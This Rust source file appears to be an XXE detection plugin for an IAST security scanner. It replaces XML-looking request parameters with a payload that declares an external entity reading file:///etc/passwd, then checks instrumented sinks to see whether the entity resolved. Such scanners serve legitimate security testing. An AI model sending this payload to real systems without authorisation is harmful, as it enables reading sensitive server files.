//! Replaces any parameter whose value begins with `<?xml` within its first
//! 20 bytes with an XML body declaring a `file:///etc/passwd` external
//! entity.

use crate::builtins::common::single_stack_hash;
use crate::plugin::{Batch, CheckOutcome, CheckedBatch, PlannedRequest, Plugin};
use iast_builder::{any_xxe_reached, Mutation, RequestDraft};
use iast_model::{Record, Sink, VulnHook};

const ENTITY_NAME: &str = "openrasp_xxe";

fn xxe_payload() -> String {
    format!(
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY {ENTITY_NAME} SYSTEM \"file:///etc/passwd\">]><a>&{ENTITY_NAME};</a>"
    )
}

fn looks_like_xml(value: &str) -> bool {
    value.as_bytes().get(..value.len().min(20)).is_some_and(|head| {
        std::str::from_utf8(head).map(|s| s.trim_start().starts_with("<?xml")).unwrap_or(false)
    })
}

pub struct XxeBasic;

impl Plugin for XxeBasic {
    fn name(&self) -> &'static str {
        "xxe_basic"
    }

    fn description(&self) -> &'static str {
        "replaces xml-looking parameters with a body declaring an external entity"
    }

    fn mutate(&self, record: &Record) -> Vec<Batch> {
        let payload = xxe_payload();
        let mut batches = Vec::new();

        for (name, values) in &record.parameters {
            for value in values {
                if !looks_like_xml(value) {
                    continue;
                }
                let from_query = record.query.contains_key(name);
                let Ok(mut draft) = RequestDraft::from_record(record) else { continue };
                let mutation = if from_query {
                    Mutation::Get { name: name.clone(), value: payload.clone() }
                } else {
                    Mutation::Post { name: name.clone(), value: payload.clone() }
                };
                if draft.apply(mutation).is_err() {
                    continue;
                }
                batches.push(vec![PlannedRequest { draft, feature: ENTITY_NAME.to_string() }]);
            }
        }
        batches
    }

    fn check(&self, batch: &CheckedBatch<'_>) -> Option<CheckOutcome> {
        let request = batch.requests.first()?;
        let record = request.record.as_ref()?;

        if !any_xxe_reached(record.sinks.iter(), &request.feature) {
            return None;
        }

        let (index, sink) = record
            .sinks
            .iter()
            .enumerate()
            .find(|(_, s)| matches!(s, Sink::Xxe { entity, .. } if entity == &request.feature))?;

        Some(CheckOutcome::new(
            format!("xxe: external entity {:?} resolved file:///etc/passwd", request.feature),
            vec![record.clone()],
            Some(VulnHook { sink_index: index, stack_hash: single_stack_hash(sink) }),
        ))
    }
}
